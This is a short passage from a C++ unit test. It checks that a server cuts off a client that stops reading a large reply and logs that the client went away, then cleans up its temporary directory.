  std::printf("[ figures  ] PING behind a client that stopped reading (1 worker, ReadTimeout 2 s): %.2f s\n", waited);
  // The slow client got part of the reply and then the connection was closed, not all 3000 lines.
  const std::string got = read_all(slow);
  ::close(slow);
  EXPECT_LT(std::count(got.begin(), got.end(), '\n'), 3000) << got.size();
  EXPECT_NE(d.log().find("went away before the reply"), std::string::npos) << d.log().substr(0, 2000);
  fs::remove_all(dir);
}
